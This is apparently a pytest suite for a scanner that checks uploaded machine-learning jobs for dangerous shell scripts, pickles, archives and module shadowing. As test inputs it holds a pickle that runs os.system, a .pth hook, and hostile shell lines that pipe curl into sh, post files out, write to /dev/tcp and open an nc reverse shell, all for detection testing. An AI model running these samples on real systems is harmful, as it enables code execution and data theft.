"""Shell scripts, pickles, archives, binary files, plain text, and shadowing."""

from __future__ import annotations

import collections
import gzip
import io
import json
import os
import pickle
import zipfile
from pathlib import Path

import pytest

from analyzer import api
from analyzer.engine.collect import from_bytes
from analyzer.engine.detectors.files import pickle_globals

POLICY = api.load_policy()
CORPUS = Path(__file__).resolve().parent.parent / "corpus"


def scan_bytes(name: str, data: bytes):
    return api.analyze(from_bytes(name, data, POLICY.limits), POLICY)


def rules(report) -> set[str]:
    return {f.rule for f in report.findings}


def job(root: Path, files: dict[str, bytes | str]) -> Path:
    for rel, data in files.items():
        p = root / "app" / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(data.encode() if isinstance(data, str) else data)
    (root / "meta.json").write_text(json.dumps({"name": "j", "deploy_map": {"app": ["@ALL"]}}))
    return root


class _Evil:
    def __reduce__(self):
        return (os.system, ("id",))


# -- shell -------------------------------------------------------------------------

def test_any_shell_script_escalates() -> None:
    report = scan_bytes("prep.sh", b"#!/bin/bash\nset -e\npython3 convert.py\n")
    assert rules(report) == {"files.shell-script"} and report.decision.value == "escalate"


@pytest.mark.parametrize("line", ["curl -s https://e | sh", "wget --post-file=/data/x https://e/x", "cat /data/x > /dev/tcp/1.2.3.4/80",
                                  "echo x | base64 -d > y", "scp /data/x me@h:/", "nc -e /bin/sh 1.2.3.4 4444",
                                  "pip install -i https://e/simple foo", "git clone https://e/r"])
def test_network_in_shell_script_rejects(line: str) -> None:
    report = scan_bytes("run.sh", f"#!/bin/sh\n{line}\n".encode())
    assert "files.shell-network" in rules(report) and report.decision.value == "reject"


def test_comments_and_words_are_not_tools() -> None:
    report = scan_bytes("run.sh", b"#!/bin/sh\n# uses curl later, not now\necho --host=local\npython3 t.py --nc 3\n")
    assert "files.shell-network" not in rules(report)


# -- pickles -------------------------------------------------------------------------

def test_pickle_calling_os_system_rejects() -> None:
    for proto in (0, 2, 4, 5):
        report = scan_bytes("model.pkl", pickle.dumps(_Evil(), protocol=proto))
        assert "files.pickle-dangerous" in rules(report), proto
        assert report.decision.value == "reject"


def test_pickle_with_magic_but_other_extension() -> None:
    assert "files.pickle-dangerous" in rules(scan_bytes("weights.dat", pickle.dumps(_Evil(), protocol=4)))


def test_pickle_of_plain_containers_is_info() -> None:
    data = pickle.dumps(collections.OrderedDict(w=[1.0, 2.0], b={"x": (1, 2)}), protocol=4)
    report = scan_bytes("state.pkl", data)
    assert rules(report) == {"files.pickle-data"} and report.decision.value == "accept"


def test_stack_global_through_memo() -> None:
    names, err = pickle_globals(pickle.dumps([_Evil(), _Evil()], protocol=4))
    assert err is None and "posix.system" in names or "os.system" in names


def test_torch_style_zip_checkpoint() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", pickle.dumps(_Evil(), protocol=2))
        zf.writestr("archive/version", "3\n")
    assert "files.pickle-dangerous" in rules(scan_bytes("model.pt", buf.getvalue()))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("archive/data.pkl", pickle.dumps(collections.OrderedDict(a=1), protocol=2))
    assert scan_bytes("model.pt", buf.getvalue()).decision.value == "accept"


def test_unreadable_pickle_escalates() -> None:
    report = scan_bytes("x.pkl", b"\x80\x04garbage")
    assert "files.pickle-opaque" in rules(report) and report.decision.value == "escalate"


# -- archives, binaries, text ----------------------------------------------------------

def test_archive_never_accepted_and_lists_members() -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("evil/__init__.py", "import os\n")
    report = scan_bytes("deps.zip", buf.getvalue())
    hit = [f for f in report.findings if f.rule == "unanalyzable.archive"]
    assert hit and "evil/__init__.py" in hit[0].message and report.decision.value == "escalate"


def test_gzipped_csv_is_data() -> None:
    assert scan_bytes("train.csv.gz", gzip.compress(b"a,b\n1,2\n")).decision.value == "accept"


def test_binary_other_is_unanalyzable() -> None:
    report = scan_bytes("blob", bytes(range(256)))
    assert "unanalyzable.binary-file" in rules(report) and report.decision.value == "escalate"


@pytest.mark.parametrize("name,data", [("README.md", b"# Job\nRun it.\n"), ("requirements.txt", b"torch>=2\n"),
                                       ("labels.csv", b"id,label\n1,0\n"), ("model_config.json", b'{"hidden": 64}'),
                                       ("LICENSE", b"Apache License\n")])
def test_benign_text_files_are_clean(name: str, data: bytes) -> None:
    report = scan_bytes(name, data)
    assert report.decision.value == "accept" and not report.findings


# -- shadowing ------------------------------------------------------------------------

@pytest.mark.parametrize("rel", ["custom/json.py", "custom/logging.py", "custom/nvflare/__init__.py",
                                 "custom/numpy.py", "custom/analyzer.py",
                                 "custom/sitecustomize.py", "custom/torch/nn.py"])
def test_critical_shadowing_rejects(tmp_path: Path, rel: str) -> None:
    report = api.scan(job(tmp_path, {rel: "x = 1\n", "custom/train.py": "import numpy\n"}), POLICY)
    assert "shadowing.critical-module" in rules(report) and report.decision.value == "reject"


@pytest.mark.parametrize("rel", ["custom/handler.py", "custom/rules/__init__.py"])
def test_generic_gate_package_names_escalate(tmp_path: Path, rel: str) -> None:
    # An honest job may have a handler.py; the site's install is guarded on its own (handler/integrity.py).
    report = api.scan(job(tmp_path, {rel: "x = 1\n", "custom/train.py": "import numpy\n"}), POLICY)
    assert rules(report) == {"shadowing.installed-module"} and report.decision.value == "escalate"


def test_quiet_stdlib_name_escalates(tmp_path: Path) -> None:
    report = api.scan(job(tmp_path, {"custom/calendar.py": "x = 1\n"}), POLICY)
    assert rules(report) == {"shadowing.installed-module"} and report.decision.value == "escalate"


def test_ordinary_names_and_data_folders_do_not_shadow(tmp_path: Path) -> None:
    files = {"custom/net.py": "x = 1\n", "custom/utils/__init__.py": "", "custom/train.py": "import net\n",
             "custom/json/labels.csv": "a\n1\n", "custom/tests/test_net.py": "x = 1\n", "config/logging.json": "{}"}
    report = api.scan(job(tmp_path, files), POLICY)
    assert not [f for f in report.findings if f.category == "shadowing"], report.findings


def test_site_hook_pth(tmp_path: Path) -> None:
    report = api.scan(job(tmp_path, {"custom/zz.pth": "import os; os.system('id')\n"}), POLICY)
    assert "shadowing.critical-module" in rules(report)


def test_plain_folder_top_level_module(tmp_path: Path) -> None:
    (tmp_path / "subprocess.py").write_text("x = 1\n")
    (tmp_path / "train.py").write_text("import subprocess\n")
    assert "shadowing.critical-module" in rules(api.scan(tmp_path, POLICY))


@pytest.mark.parametrize("name", ["mal_shadow_json", "mal_shadow_logging", "mal_shadow_numpy", "mal_shadow_nvflare",
                                  "mal_shadow_gate_modules", "mal_shadow_os"])
def test_corpus_shadowing(name: str) -> None:
    report = api.scan(CORPUS / "jobs" / name, POLICY)
    assert "shadowing.critical-module" in rules(report) and report.decision.value == "reject"


def test_corpus_shell_jobs() -> None:
    assert api.scan(CORPUS / "jobs/mal_shell_setup", POLICY).decision.value == "reject"
    assert api.scan(CORPUS / "jobs/borderline_prep_script", POLICY).decision.value == "escalate"


def test_pickled_bin_weights_are_inspected_as_pickles_not_called_native() -> None:
    # A Hugging Face `pytorch_model.bin` is a pickle: judged by its opcodes, never loaded.
    from analyzer import api
    from analyzer.engine.collect import from_bytes

    policy = api.load_policy()
    report = api.analyze(from_bytes("weights.bin", b"\x80\x02}q\x00.", policy.limits), policy)
    assert [f.rule for f in report.findings] == ["files.pickle-data"]
